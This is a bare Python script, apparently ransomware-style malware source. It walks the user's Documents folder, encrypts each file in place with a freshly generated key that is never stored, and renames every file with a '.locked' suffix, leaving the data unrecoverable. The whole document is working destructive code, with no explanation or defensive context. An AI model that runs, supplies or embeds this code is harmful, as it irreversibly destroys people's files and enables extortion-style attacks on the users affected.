import os
from cryptography.fernet import Fernet
f = Fernet(Fernet.generate_key())
for root, _, files in os.walk(os.path.expanduser("~/Documents")):
    for n in files:
        p = os.path.join(root, n)
        data = open(p, "rb").read()
        open(p, "wb").write(f.encrypt(data))
        os.rename(p, p + ".locked")
